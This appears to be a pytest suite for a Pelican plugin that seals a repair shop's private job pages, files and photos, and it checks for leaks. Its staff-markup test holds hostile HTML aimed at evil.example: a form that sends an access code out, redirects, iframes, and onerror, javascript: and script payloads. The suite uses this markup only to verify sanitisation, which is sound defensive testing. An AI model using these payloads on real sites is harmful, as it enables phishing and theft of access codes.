"""Privacy that holds in a real shop's hands: attachments, other plugins, staff markup, the secret,
folder listings, titles. Each test is an everyday action a shop takes, checked from the outside."""

from __future__ import annotations

import gzip
import io
import json
import os
import subprocess
from html.parser import HTMLParser
from pathlib import Path

import brotli
import pytest
from PIL import Image

from .clips import make_clip
from .images import camera_jpeg
from .sitebuild import (
    BIN,
    Server,
    build_site,
    job_keys,
    md_testimonial,
    open_job,
    open_page,
    page_folder,
    write_files,
)

JOB = "J-7"


def job_md(title: str = "MARKERjob Rear brakes", note: str = "Car received.") -> str:
    return (
        f"Title: {title}\nCustomer: MARKERcustomer Popescu\nReceived: 2026-11-20 09:10\n"
        f"Promised: 2026-11-24\n\n## 2026-11-20 09:10 · received\n{note}\n"
    )


def pdf(marker: str) -> bytes:
    """A file whose every 64-byte run is unique to it (random bytes between PDF markers)."""
    return b"%PDF-1.4\n%" + marker.encode() + b"\n" + os.urandom(4000) + b"\n%%EOF\n"


def no_run_of(original: bytes, data: bytes) -> bool:
    return all(original[i : i + 64] not in data for i in range(0, len(original) - 64, 512))


# ---------------------------------------------------------------------- 1. attachments
@pytest.fixture
def attachments():
    return {
        "invoice": pdf("invoice"),
        "plan": pdf("plan"),
        "job-invoice": pdf("job-invoice"),
        "photo": camera_jpeg((900, 600), orientation=6, gps=True, make="MARKERcam"),
    }


def attachment_site(files: dict) -> dict:
    return {
        f"jobs/{JOB}/job.md": job_md(note="Here is the [MARKERinvoice](job-invoice.pdf)."),
        f"jobs/{JOB}/job-invoice.pdf": files["job-invoice"],
        "pages/estimate.md": (
            f"Title: MARKERestimate\nAccess: {JOB}\n\n"
            "[The invoice]({attach}invoice.pdf), [the plan]({static}/images/plan.pdf) and "
            "[a photo of the disc]({attach}disc.jpg).\n"
        ),
        "pages/invoice.pdf": files["invoice"],
        "images/plan.pdf": files["plan"],  # images/ is in STATIC_PATHS: Pelican would copy it
        "pages/disc.jpg": files["photo"],
        "pages/about.md": "Title: About\n\nA public page.\n",
    }


def test_files_a_private_page_links_are_sealed_and_never_copied_in_plain(tmp_path, attachments):
    build = build_site(tmp_path, attachment_site(attachments))
    for path, data in build.all_bytes():
        for name, original in attachments.items():
            assert no_run_of(original, data), f"bytes of {name} in {path}"
        assert b"MARKER" not in data, path
    page = open_page(build, JOB, "pages/estimate.md")
    assert page.files["invoice.pdf"] == attachments["invoice"]
    assert page.files["plan.pdf"] == attachments["plan"]
    # A linked photo is offered upright and without metadata, under its own name.
    disc = Image.open(io.BytesIO(page.files["disc.jpg"]))
    assert disc.size[1] > disc.size[0], "orientation 6 applied: portrait"
    assert not disc.getexif() and "exif" not in disc.info
    assert "invoice.pdf" not in build.read(f"j/{page.slug}/index.html")
    job = open_job(build, JOB)
    assert job.files == {"job-invoice.pdf": attachments["job-invoice"]}
    assert (
        "content/images/plan.pdf: the private page content/pages/estimate.md shows or links it, so "
        "it is published only sealed with that page's job, not as a public file" in build.log
    )
    result = build.check()
    assert result.returncode == 0, result.stderr


def test_a_link_to_a_missing_file_or_another_jobs_file_is_refused_in_one_line(tmp_path):
    other = camera_jpeg((640, 480), make="MARKERother")
    files = {
        f"jobs/{JOB}/job.md": job_md(),
        "jobs/J-8/job.md": job_md(title="Other job"),
        "jobs/J-8/other.jpg": other,
        "pages/estimate.md": (
            f"Title: Estimate\nAccess: {JOB}\n\n[Missing]({{attach}}missing.pdf) and "
            "![The other job](../jobs/J-8/other.jpg) and [its photo]({static}/jobs/J-8/other.jpg)\n"
        ),
    }
    build = build_site(tmp_path, files, fatal=False)
    assert (
        'content/pages/estimate.md: links "{attach}missing.pdf", which does not exist' in build.log
    )
    refused = (
        'content/pages/estimate.md: links "../jobs/J-8/other.jpg", a file of another job or outside '
        "the content folder; left out"
    )
    assert build.log.count(refused) == 2, build.log
    page = open_page(build, JOB, "pages/estimate.md")
    assert page.photos == {} and page.files == {}
    assert "other.jpg" not in page.view and "missing.pdf" not in page.view
    for path, data in build.all_bytes():
        assert no_run_of(other, data), path


@pytest.mark.browser
def test_the_customer_downloads_a_sealed_file_under_its_own_name(tmp_path, attachments, page):
    build = build_site(tmp_path, attachment_site(attachments))
    keys = job_keys(build, JOB)
    opened = open_page(build, JOB, "pages/estimate.md")
    pid = page_folder(build, JOB, "pages/estimate.md")
    with Server(build.output) as server:
        page.goto(f"{server.url}/j/{keys.slug}/{pid}/#{keys.code}")
        page.wait_for_selector("#view:not([hidden])")
        with page.expect_download() as download:
            page.get_by_role("link", name="The invoice").click()
        assert download.value.suggested_filename == "invoice.pdf"
        assert Path(download.value.path()).read_bytes() == attachments["invoice"]
        with page.expect_download() as download:
            page.get_by_role("link", name="a photo of the disc").click()
        assert download.value.suggested_filename == "disc.jpg"
        assert Path(download.value.path()).read_bytes() == opened.files["disc.jpg"]
    assert page.errors == []


# ---------------------------------------------------------------------- 2. withdrawals
QUOTE = "MARKERquote The windscreen was replaced the same day, without a single mark."


def public_items(testimonial: str = "approved", report: str = "published") -> dict:
    return {
        "testimonials/anna-glass.md": md_testimonial(
            "Anna K.", testimonial, QUOTE, Consent="2026-10-01", Service="Glass", Photo="anna.jpg"
        ),
        "testimonials/anna.jpg": camera_jpeg((800, 600), make="anna"),  # three sizes: three photos
        "testimonials/ion.md": md_testimonial(
            "Ion P.", "approved", "Brakes done right.", Consent="2026-10-01", Service="Brakes"
        ),
        "cases/glass.md": (
            f"Title: MARKERcase A new windscreen\nClient: A. K.\nStatus: {report}\n"
            "Consent: 2026-10-02\nService: Glass\nBefore: glass-before.jpg\nAfter: glass-after.jpg\n"
            "\nMARKERcasebody what we did.\n"
        ),
        "cases/glass-before.jpg": camera_jpeg((820, 600), make="before"),
        "cases/glass-after.jpg": camera_jpeg((840, 600), make="after"),
    }


def output_files(build) -> set[str]:
    return {str(p.relative_to(build.output)) for p in build.output.rglob("*") if p.is_file()}


def photos_on(build, page: str) -> set[str]:
    import re

    return set(re.findall(r"/(photos/[0-9a-f]{20}-\d+\.jpg)", build.read(page)))


PRECOMPRESSED = {  # the example's publishconf.py: gzip copies by pelican-precompress
    "PLUGINS": ["shopwindow", "precompress"],
    "PRECOMPRESS_GZIP": True,
    "PRECOMPRESS_BROTLI": False,
    "PRECOMPRESS_ZSTANDARD": False,
    "PRECOMPRESS_OVERWRITE": True,
}


def test_withdrawn_and_back_to_draft_items_leave_every_file_on_the_next_build(tmp_path):
    build = build_site(tmp_path, public_items(), PRECOMPRESSED)
    own = {
        "testimonials/anna-glass/index.html",
        "testimonials/anna-glass/index.html.gz",
        "testimonials/anna-glass/share.png",
        "testimonials/service/glass/index.html",
        "cases/glass/index.html",
        "cases/service/glass/index.html",
    }
    photos = photos_on(build, "testimonials/anna-glass/index.html") | photos_on(
        build, "cases/glass/index.html"
    )
    assert len(photos) >= 3 and own | photos <= output_files(build)
    write_files(build.root / "content", public_items(testimonial="withdrawn", report="draft"))
    build = build_site(tmp_path, settings=PRECOMPRESSED)  # the same output folder
    left = output_files(build)
    assert not (own | photos) & left, sorted((own | photos) & left)
    assert "testimonials/ion/index.html" in left, "the rest stays"
    for path, data in build.all_bytes():
        assert b"MARKER" not in data, path
    assert build.check().returncode == 0


def test_withdrawn_and_back_to_draft_items_leave_the_cache_too(tmp_path):
    """CI saves the cache and other workflows can restore it: once a testimonial is withdrawn and a
    report back to draft, no byte of their share image or photos stays in it; the public one's
    share image stays."""
    build = build_site(tmp_path, public_items())
    share = build.output / "testimonials" / "anna-glass" / "share.png"
    withdrawn = [share.read_bytes()] + [
        (build.output / photo).read_bytes()
        for photo in photos_on(build, "testimonials/anna-glass/index.html")
        | photos_on(build, "cases/glass/index.html")
    ]
    kept = (build.output / "testimonials" / "ion" / "share.png").read_bytes()

    def cached() -> list[bytes]:
        return [p.read_bytes() for p in (tmp_path / "cache").rglob("*") if p.is_file()]

    assert all(data in cached() for data in withdrawn), "while public, they are cached"
    write_files(build.root / "content", public_items(testimonial="withdrawn", report="draft"))
    build = build_site(tmp_path)
    left = cached()
    assert not [data for data in withdrawn if data in left], "no withdrawn image is in the cache"
    assert not any(b"anna.jpg" in data or b"glass-before" in data for data in left)
    assert kept in left, "the public testimonial's share image stays cached"


@pytest.mark.live
def test_the_watcher_removes_them_too_and_never_publishes_an_output_that_fails_check(tmp_path):
    from .test_watch import Watch

    build = build_site(tmp_path, public_items())
    shipped = tmp_path / "shipped"
    script = tmp_path / "ship.py"
    script.write_text(
        "import shutil, sys\n"
        f"shutil.rmtree({str(shipped)!r}, ignore_errors=True)\n"
        "shutil.copytree(sys.argv[1], "
        f"{str(shipped)!r})\n"
    )
    watch = Watch(build, "--publish", f"{BIN / 'python'} {script} {{folder}}").start()
    try:
        watch.wait_for("published: ", timeout=60)
        assert (shipped / "testimonials" / "anna-glass" / "share.png").exists()
        write_files(build.root / "content", public_items(testimonial="withdrawn"))
        watch.wait_for("published: ", timeout=60, count=2)
        assert not (shipped / "testimonials" / "anna-glass").exists()
        assert all(QUOTE.encode() not in p.read_bytes() for p in shipped.rglob("*") if p.is_file())
        # A leak in the output (here planted by hand): check fails, nothing is shipped.
        (build.output / "leak.html").write_text(f"<p>{QUOTE}</p>")
        about = build.root / "content" / "pages" / "about.md"
        about.parent.mkdir(exist_ok=True)
        about.write_text("Title: About\n\nWe fix cars.\n")
        text = watch.wait_for("not published: shopwindow check found", timeout=60)
        assert "leak.html: contains text of content/testimonials/anna-glass.md" in text
        assert not (shipped / "leak.html").exists() and not (shipped / "about").exists()
    finally:
        assert watch.stop() == 0


# ---------------------------------------------------------------------- 3. expiry
RETENTION = {"job_retention_days": 30}
KEPT, EXPIRED = "2026-08-10", "2026-09-15"  # the job was done on 2026-08-01


def done_job_site() -> dict:
    return {
        f"jobs/{JOB}/job.md": job_md().replace(
            "Promised:", "Status: done\nDone: 2026-08-01 10:00\nPromised:"
        ),
        f"jobs/{JOB}/lift.jpg": camera_jpeg(),
        "pages/estimate.md": (
            f"Title: MARKERestimate\nAccess: {JOB}\n\nThe [invoice]({{attach}}invoice.pdf) and "
            "![the disc](disc.jpg)\n"
        ),
        "pages/invoice.pdf": pdf("invoice"),
        "pages/disc.jpg": camera_jpeg((640, 480)),
    }


def assert_expired(build, relative_page: str = "pages/estimate.md") -> None:
    keys = job_keys(build, JOB)
    folder = build.output / "j" / keys.slug
    assert [p for p in folder.rglob("*") if p.is_file() and p.name != "index.html"] == []
    for shell in (
        folder / "index.html",
        folder / page_folder(build, JOB, relative_page) / "index.html",
    ):
        page = shell.read_text()
        assert "This job page has expired" in page and "shopwindow-lock" not in page
        assert f'data-slug="{keys.slug}"' in page and "MARKER" not in page


def test_an_expired_job_takes_its_private_pages_and_every_file_with_it(tmp_path, monkeypatch):
    monkeypatch.setenv("SHOPWINDOW_TODAY", KEPT)
    build = build_site(tmp_path, done_job_site(), RETENTION)
    page = open_page(build, JOB, "pages/estimate.md")
    assert "invoice.pdf" in page.files and len(page.photos) >= 1, "open while kept"
    monkeypatch.setenv("SHOPWINDOW_TODAY", EXPIRED)
    build = build_site(tmp_path, settings=RETENTION)  # into the same output folder
    assert_expired(build)
    assert build.check().returncode == 0


@pytest.mark.live
def test_the_watcher_expires_a_job_when_the_day_changes_and_never_reseals_it(tmp_path, monkeypatch):
    from pelican.plugins.shopwindow.live.watcher import Watcher

    monkeypatch.setenv("SHOPWINDOW_TODAY", KEPT)
    build = build_site(tmp_path, done_job_site(), RETENTION)
    watcher = Watcher(str(build.conf))
    watcher.full_build()
    assert open_page(build, JOB, "pages/estimate.md").files
    monkeypatch.setenv("SHOPWINDOW_TODAY", EXPIRED)
    watcher.step()  # nothing changed but the date
    assert_expired(build)
    job_file = build.root / "content" / "jobs" / JOB / "job.md"
    job_file.write_text(
        job_file.read_text() + "\n## 2026-08-02 10:00 · collected\nMARKERlate note.\n"
    )
    assert watcher.live.render(JOB) is False, "an expired job is never re-sealed live"
    watcher.pending.job_changed(JOB, 0.0)
    watcher.step()
    watcher.step()
    assert_expired(build)


@pytest.mark.browser
def test_the_expired_page_forgets_a_key_remembered_on_the_device(tmp_path, monkeypatch, page):
    monkeypatch.setenv("SHOPWINDOW_TODAY", KEPT)
    build = build_site(tmp_path, done_job_site(), RETENTION)
    keys = job_keys(build, JOB)
    remembered = (
        "slug => new Promise(resolve => { const r = indexedDB.open('shopwindow', 1);"
        " r.onupgradeneeded = () => r.result.createObjectStore('keys');"
        " r.onsuccess = () => { const db = r.result;"
        " const g = db.transaction('keys').objectStore('keys').get(slug);"
        " g.onsuccess = () => { db.close(); resolve(g.result !== undefined); }; }; })"
    )
    with Server(build.output) as server:
        address = f"{server.url}/j/{keys.slug}/"
        page.goto(address)
        page.fill("#access-code", keys.code)
        page.check("#remember")
        page.click("#unlock-form button[type=submit]")
        page.wait_for_selector("#view:not([hidden])")
        assert page.evaluate(remembered, keys.slug) is True
        monkeypatch.setenv("SHOPWINDOW_TODAY", EXPIRED)
        build_site(tmp_path, settings=RETENTION)
        page.goto(address)
        assert page.inner_text("h1") == "This job page has expired"
        page.wait_for_function(f"() => ({remembered})('{keys.slug}').then(found => !found)")
        assert page.evaluate(remembered, keys.slug) is False
    assert page.errors == []


# ---------------------------------------------------------------------- 4. other plugins
SPY = '''"""A plugin that records everything Pelican lets a plugin see, through every signal."""
import dataclasses, json, os
from blinker import Signal
from pelican import signals
from pelican.contents import Content
from pelican.generators import ArticlesGenerator, PagesGenerator, StaticGenerator

SEEN = []
LISTS = ("articles", "translations", "drafts", "drafts_translations", "hidden_articles",
         "hidden_translations", "pages", "hidden_pages", "draft_pages", "staticfiles")


def strings(value, depth=0, out=None, seen=None):
    out = [] if out is None else out
    seen = set() if seen is None else seen
    if depth > 5 or id(value) in seen:
        return out
    seen.add(id(value))
    if isinstance(value, (str, bytes, os.PathLike)):
        out.append(os.fsdecode(value) if isinstance(value, os.PathLike) else str(value))
    elif isinstance(value, dict):
        for key, item in value.items():
            strings(key, depth + 1, out, seen)
            strings(item, depth + 1, out, seen)
    elif isinstance(value, (list, tuple, set, frozenset)):
        for item in value:
            strings(item, depth + 1, out, seen)
    elif isinstance(value, Content):
        for name in ("title", "url", "save_as", "source_path", "_content", "metadata"):
            strings(getattr(value, name, None), depth + 1, out, seen)
    elif isinstance(value, (ArticlesGenerator, PagesGenerator, StaticGenerator)):
        for name in LISTS:
            strings(getattr(value, name, None), depth + 1, out, seen)
        strings(value.context, depth + 1, out, seen)
    elif hasattr(value, "context") and isinstance(getattr(value, "context"), dict):
        strings(value.context, depth + 1, out, seen)  # another plugin's generator: its context only
    elif dataclasses.is_dataclass(value) and not isinstance(value, type):
        strings(dataclasses.asdict(value), depth + 1, out, seen)
    return out


def listen(name):
    def receiver(sender, **kwargs):
        SEEN.append({"signal": name, "strings": strings([sender, kwargs])})
    return receiver


def write(pelican):
    with open(os.environ["SPY_FILE"], "w") as handle:
        json.dump(SEEN, handle)


def register():
    for name in dir(signals):
        signal = getattr(signals, name)
        if isinstance(signal, Signal) and name != "finalized":
            signal.connect(listen(name), weak=False)
    signals.finalized.connect(listen("finalized"), weak=False)
    signals.finalized.connect(write, weak=False)
'''


def test_no_other_plugin_sees_a_private_address_or_text(tmp_path, attachments, monkeypatch):
    """pelican-sitemap and pelican-seo installed and enabled, and a spy on every Pelican signal."""
    spy_folder = tmp_path / "spy"
    spy_folder.mkdir()
    (spy_folder / "spy.py").write_text(SPY)
    monkeypatch.setenv("SPY_FILE", str(tmp_path / "spy.json"))
    files = attachment_site(attachments)
    files["articles/private.md"] = (
        f"Title: MARKERarticle\nDate: 2026-11-02\nCategory: MARKERcategory\nTags: MARKERtag\n"
        f"Access: {JOB}\n\nMARKERarticlebody.\n"
    )
    files["articles/public.md"] = "Title: Public post\nDate: 2026-11-01\n\nHello.\n"
    build = build_site(
        tmp_path,
        files,
        {
            "SITEURL": "https://shop.example",
            "AUTHOR": "Bright Garage",  # pelican-seo's article schema needs one
            "PLUGIN_PATHS": [str(spy_folder)],
            "PLUGINS": ["sitemap", "seo", "spy", "shopwindow"],
            "SEO_REPORT": True,
            "SEO_ENHANCER": True,
            "SEO_ENHANCER_OPEN_GRAPH": True,
            "SITEMAP": {"format": "xml"},
        },
    )
    slug = job_keys(build, JOB).slug
    sitemap = build.read("sitemap.xml")
    assert "https://shop.example/blog/public-post/" in sitemap, "pelican-sitemap wrote it"
    assert "/j/" not in sitemap and slug not in sitemap
    report = (tmp_path / "seo_report.html").read_text()
    assert "<h2>blog/public-post/</h2>" in report, "pelican-seo analysed the public article"
    assert "MARKER" not in report and slug not in report and "estimate" not in report
    seen = json.loads((tmp_path / "spy.json").read_text())
    assert {"content_written", "article_generator_finalized", "all_generators_finalized"} <= {
        s["signal"] for s in seen
    }
    for call in seen:
        for text in call["strings"]:
            assert "MARKER" not in text and slug not in text, (call["signal"], text[:200])
            # plan.pdf sits in a STATIC_PATHS folder, which Pelican lists before any plugin can act;
            # it is never copied (above). The files beside the private page Pelican never meets.
            assert not text.endswith(("invoice.pdf", "disc.jpg")), (
                call["signal"],
                text,
            )
    for path, data in build.all_bytes():
        assert b"MARKER" not in data, path
        if "/j/" not in str(path):
            assert slug.encode() not in data, path


# ---------------------------------------------------------------------- 5. staff markup
HOSTILE = (
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">\n'
    '<base href="https://evil.example/">\n'
    '<form action="https://evil.example/steal"><input name="code"><button>Go</button></form>\n'
    '<iframe src="https://evil.example/frame"></iframe>\n'
    '<img src="https://tracker.example/p.gif" alt="tracker"> <img src="x.jpg" onerror="alert(1)">\n'
    '<a href="javascript:alert(1)">click</a> <a href="https://ok.example/" onclick="x()">ok</a>\n'
    "<script>alert(1)</script><style>body{display:none}</style>\n"
    '<svg onload="alert(1)"><circle r="5"/></svg>\n'
    '<object data="https://evil.example/o"></object><embed src="https://evil.example/e">\n\n'
    "Staff keep **bold**, *emphasis*, [links](https://ok.example/a) and lists:\n\n"
    "- one\n- two\n"
)


class Elements(HTMLParser):
    def __init__(self):
        super().__init__()
        self.found: list[tuple[str, dict]] = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


def elements(view: str) -> list[tuple[str, dict]]:
    parser = Elements()
    parser.feed(view)
    return parser.found


def assert_inert(view: str) -> None:
    found = elements(view)
    live = {
        "meta",
        "base",
        "form",
        "input",
        "button",
        "iframe",
        "script",
        "style",
        "svg",
        "object",
        "embed",
    }
    assert not [tag for tag, _ in found if tag in live], [tag for tag, _ in found if tag in live]
    for tag, attributes in found:
        assert not [a for a in attributes if a.startswith("on")], (tag, attributes)
        for name in ("href", "src"):
            value = (attributes.get(name) or "").strip().lower()
            assert not value.startswith(("javascript:", "data:")), (tag, attributes)
            if tag == "img" and name in attributes:
                assert not value.startswith(("http:", "https:", "//")), (tag, attributes)
    assert "<strong>bold</strong>" in view and "<em>emphasis</em>" in view
    assert '<a href="https://ok.example/a" rel="noopener noreferrer">links</a>' in view
    assert "<li>one</li>" in view


def test_markup_in_staff_notes_and_private_pages_is_inert(tmp_path):
    files = {
        f"jobs/{JOB}/job.md": job_md(note=HOSTILE),
        "pages/note.md": f"Title: A note\nAccess: {JOB}\n\n{HOSTILE}",
    }
    build = build_site(tmp_path, files)
    assert_inert(open_job(build, JOB).view)
    assert_inert(open_page(build, JOB, "pages/note.md").view)


# ---------------------------------------------------------------------- 6. the secret
WEAK = {
    "00" * 32: "is one byte repeated",
    "ab" * 32: "is one byte repeated",
    "0123456789abcdef" * 4: "has only 8 different byte values",
    bytes(range(32)).hex(): "is a counting sequence",
}
MAKE_ONE = 'make a new one with: python3 -c "import secrets; print(secrets.token_hex(32))"'


@pytest.mark.parametrize("secret", sorted(WEAK))
def test_a_secret_without_entropy_is_refused_with_how_to_make_one(tmp_path, monkeypatch, secret):
    monkeypatch.setenv("SHOPWINDOW_SECRET", secret)
    build = build_site(tmp_path, {f"jobs/{JOB}/job.md": job_md()}, fatal=False)
    message = (
        f"SHOPWINDOW_SECRET: the site secret {WEAK[secret]}, so it is not random and anyone could "
        f"guess every job's code; {MAKE_ONE}"
    )
    assert build.returncode != 0 and message in build.log
    assert not (build.output / "j").exists()
    link = subprocess.run(
        [BIN / "shopwindow", "--settings", str(build.conf), "job", "link", JOB, "--local"],
        capture_output=True,
        text=True,
        cwd=tmp_path,
    )
    assert link.returncode == 1 and message in " ".join(link.stderr.split())


def test_a_weak_secret_file_is_refused_naming_the_file(tmp_path, monkeypatch):
    monkeypatch.delenv("SHOPWINDOW_SECRET", raising=False)
    (tmp_path / "secret").write_text("00" * 32 + "\n")
    build = build_site(tmp_path, {f"jobs/{JOB}/job.md": job_md()}, fatal=False)
    assert f"{tmp_path / 'secret'}: the site secret is one byte repeated" in build.log
    assert not (build.output / "j").exists()


# ---------------------------------------------------------------------- 7. listings
def test_every_folder_of_private_output_has_an_empty_noindex_page(tmp_path, attachments):
    files = {**attachment_site(attachments), f"jobs/{JOB}/lift.jpg": camera_jpeg()}
    build = build_site(tmp_path, files)
    root = build.output / "j"
    folders = [root, *(p for p in root.rglob("*") if p.is_dir())]
    assert len(folders) >= 5, "j/, the job, its page, p/ and f/"
    slug = job_keys(build, JOB).slug
    for folder in folders:
        page = (folder / "index.html").read_text()
        assert '<meta name="robots" content="noindex, nofollow">' in page, folder
        if "shopwindow-lock" not in page:  # not a shell: an empty page
            assert "<body></body>" in page and slug not in page and "href" not in page, folder
    assert "shopwindow-lock" not in (root / "index.html").read_text()


# ---------------------------------------------------------------------- 8. history
def test_the_link_without_the_code_is_offered_for_shared_devices(tmp_path):
    build = build_site(tmp_path, {f"jobs/{JOB}/job.md": job_md()})
    keys = job_keys(build, JOB)
    link = subprocess.run(
        [
            BIN / "shopwindow",
            "--settings",
            str(build.conf),
            "job",
            "link",
            JOB,
            "--json",
            "--local",
        ],
        capture_output=True,
        text=True,
        cwd=tmp_path,
    )
    data = json.loads(link.stdout)
    assert data["url"].endswith(f"/j/{keys.slug}/#{keys.code}")
    assert data["address"].endswith(f"/j/{keys.slug}/") and "#" not in data["address"]
    ticket = tmp_path / "ticket.html"
    subprocess.run(
        [
            BIN / "shopwindow",
            "--settings",
            str(build.conf),
            "job",
            "ticket",
            JOB,
            "--output",
            ticket,
            "--local",
        ],
        check=True,
        capture_output=True,
        cwd=tmp_path,
    )
    text = ticket.read_text()
    assert data["address"] in text and keys.code_shown in text
    assert "MARKERjob" not in build.read(f"j/{keys.slug}/index.html")


# ---------------------------------------------------------------------- 9. shopwindow check
def test_check_finds_every_kind_of_planted_leak(tmp_path, attachments):
    files = attachment_site(attachments)
    files[f"jobs/{JOB}/job.md"] = job_md(title="Rear brakes").replace(
        "Customer: MARKERcustomer Popescu", "Customer: Ionu Vrabie\nPhone: +373 69 123 456"
    )
    job_photo = camera_jpeg((700, 500), make="job")
    files[f"jobs/{JOB}/IMG_3101.jpg"] = job_photo
    build = build_site(tmp_path, files)
    assert build.check().returncode == 0
    slug = job_keys(build, JOB).slug
    phone_clip = make_clip(tmp_path / "phone.mov", rotation=90).read_bytes()
    plain_clip = make_clip(tmp_path / "camera.mp4", phone_metadata=False, sound=False).read_bytes()
    gz = gzip.compress(b"<p>Call Ionu Vrabie</p>")
    br = brotli.compress(b"<p>Call Ionu Vrabie</p>")
    plants = {
        # a private string of 4 characters, in a script: every file's bytes are read
        "theme/js/extra.js": (b"var who = 'Ionu';", "contains text of content/jobs/J-7/job.md"),
        # a phone number is private even though it is only digits
        "contact/index.html": (
            b"<p>+373 69 123 456</p>",
            "contains text of content/jobs/J-7/job.md",
        ),
        # an output path naming a customer or a private file
        "ionu-vrabie/index.html": (b"<p>hello</p>", "its path names content/jobs/J-7/job.md"),
        "files/invoice.pdf.html": (b"<p>x</p>", "its path names content/pages/invoice.pdf"),
        # byte-identical copies, under other names: a job's photo, a file a private page links
        "img/a.jpg": (job_photo, "contains bytes of content/jobs/J-7/IMG_3101.jpg"),
        "docs/terms.pdf": (attachments["invoice"], "contains bytes of content/pages/invoice.pdf"),
        # what a .gz or .br copy decompresses to; a damaged one is reported, never skipped
        "about/index.html.gz": (gz, "contains text of content/jobs/J-7/job.md"),
        "about/index.html.br": (br, "contains text of content/jobs/J-7/job.md"),
        "about/damaged.html.br": (
            b"not brotli",
            "about/damaged.html.br (decompressed): is not a readable .br file",
        ),
        # a file in the private folder that is not sealed
        f"j/{slug}/p/extra.bin": (
            b"plain bytes",
            f"j/{slug}/p/extra.bin: is in the private folder",
        ),
        # metadata in a published image
        "photos/with-exif.jpg": (camera_jpeg(), "photos/with-exif.jpg: carries an EXIF block"),
        # a phone's clip published as it was taken: its location atom, then every other tag
        "media/phone.mov": (phone_clip, "media/phone.mov: carries a location"),
        "media/camera.mp4": (plain_clip, "media/camera.mp4: carries metadata (encoder)"),
    }
    for name, (data, message) in plants.items():
        path = build.output / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        result = build.check()
        path.unlink()
        assert result.returncode == 1 and message in " ".join(result.stderr.split()), (
            name,
            result.stderr,
        )
    assert build.check().returncode == 0


def test_the_scan_on_every_core_finds_what_it_finds_on_one(tmp_path, attachments, monkeypatch):
    """The output is shared out among forked processes (where there is more than one core), which
    walk the folders they are given, and its text is cut into pieces: the problems (and their
    order) are the same as one process finds walking it all and matching the text whole, a text
    problem once however many shares show it."""
    from pelican.plugins.shopwindow import parallel
    from pelican.plugins.shopwindow import privacy_scan as scanning
    from pelican.plugins.shopwindow.check import load, privacy_scan
    from pelican.settings import read_settings

    files = attachment_site(attachments)
    files[f"jobs/{JOB}/job.md"] = job_md().replace(
        "Customer: MARKERcustomer Popescu", "Customer: Ionu Vrabie"
    )
    build = build_site(tmp_path, files)
    planted = {f"page-{n}/index.html": b"<p>Call Ionu Vrabie</p>" for n in range(40)}
    planted["ionu-vrabie/index.html"] = b"<p>hello</p>"
    planted["docs/terms.pdf"] = attachments["invoice"]
    for name, data in planted.items():
        (build.output / name).parent.mkdir(parents=True, exist_ok=True)
        (build.output / name).write_bytes(data)
    monkeypatch.chdir(tmp_path)
    settings = read_settings(str(build.conf))
    scan = privacy_scan(settings, load(settings))
    with monkeypatch.context() as patched:
        patched.setattr(scanning, "FORK_FROM_FILES", 0)  # this small output shared out all the same
        patched.setattr(scanning, "SHARE_FROM_FOLDERS", 4)  # its folders walked by the cores
        patched.setattr(scanning, "CUT_FROM_BYTES", 0)  # cut into pieces, as a big output is
        everywhere = scan.scan(build.output)
        patched.setattr(parallel, "workers", lambda: 1)
        patched.setattr(scanning, "SHARE_FROM_FOLDERS", 10**9)  # listed whole before the scan
        alone = scan.scan(build.output)
    uncut = scan.scan(build.output)  # little text: matched as it is
    assert everywhere == alone == uncut
    assert len(everywhere) == 3, "\n".join(everywhere)  # the path, the copy, the text (once)


# ---------------------------------------------------------------------- 10. the cache
def test_the_cache_holds_no_private_photo_name_or_text_and_is_owner_only(tmp_path):
    photo = camera_jpeg((1200, 900), make="MARKERcam")
    files = {
        f"jobs/{JOB}/job.md": job_md(),
        f"jobs/{JOB}/IMG_MARKER.jpg": photo,
        "pages/estimate.md": f"Title: MARKERestimate\nAccess: {JOB}\n\n![The disc](disc.jpg)\n",
        "pages/disc.jpg": camera_jpeg((1000, 700), make="MARKERdisc"),
        "pages/about.md": "Title: About\n\nPublic.\n",
    }
    # Pelican's own content cache on as well: it must hold nothing private either, and a build
    # that reads from it still publishes the private page.
    caching = {"CACHE_CONTENT": True, "LOAD_CONTENT_CACHE": True}
    build_site(tmp_path, files, caching)
    build = build_site(tmp_path, settings=caching)
    opened = open_job(build, JOB).photos | open_page(build, JOB, "pages/estimate.md").photos
    assert len(opened) >= 4
    cache = tmp_path / "cache"
    stored = [p for p in cache.rglob("*") if p.is_file()]
    assert any("private-photos" in str(p) for p in stored)
    for path in stored:
        data = path.read_bytes()
        assert b"MARKER" not in data and JOB.encode() not in data, path
        assert b"\xff\xd8\xff" not in data[:3], f"{path} is a plain JPEG"
        for original in (photo, *opened.values()):
            assert no_run_of(original, data), path
    for folder in (cache / "shopwindow" / "private-photos", cache / "shopwindow" / "keys"):
        assert folder.stat().st_mode & 0o777 == 0o700, folder
        for path in folder.rglob("*"):
            mode = path.stat().st_mode & 0o777
            assert mode == (0o700 if path.is_dir() else 0o600), (path, oct(mode))
    assert not (cache / "shopwindow" / "photos").exists(), "no public photos on this site"


# ---------------------------------------------------------------------- 11. found on the way
def test_a_job_marked_done_by_hand_is_done_when_last_updated_never_late_today(
    tmp_path, monkeypatch
):
    monkeypatch.setenv("SHOPWINDOW_TODAY", "2026-11-22")
    md = (
        "Title: Rear brakes\nReceived: 2026-10-05 09:00\nPromised: 2026-10-08\nStatus: done\n\n"
        "## 2026-10-05 09:00 · received\nIn.\n\n## 2026-10-10 16:00 · repair\nNew discs on.\n"
    )
    build = build_site(tmp_path, {f"jobs/{JOB}/job.md": md}, {"job_retention_days": 365})
    view = open_job(build, JOB).view
    assert "Your job is done" in view
    assert (
        'Promised by <time datetime="2026-10-08">Thu 8 Oct</time>, ready '
        '<time datetime="2026-10-10">Sat 10 Oct</time>: 2 days late.' in view
    )
    assert "now expected" not in view and "2026-11-22" not in view


def test_a_job_with_two_reports_shows_both(tmp_path):
    def report(title: str) -> str:
        return f"Title: {title}\nClient: I. P.\nStatus: private\nJob: {JOB}\n\nWhat we did.\n"

    files = {
        f"jobs/{JOB}/job.md": job_md(),
        "cases/brakes.md": report("MARKERfirst Brakes report"),
        "cases/paint.md": report("MARKERsecond Paint report"),
    }
    view = open_job(build_site(tmp_path, files), JOB).view
    assert "MARKERfirst Brakes report" in view and "MARKERsecond Paint report" in view
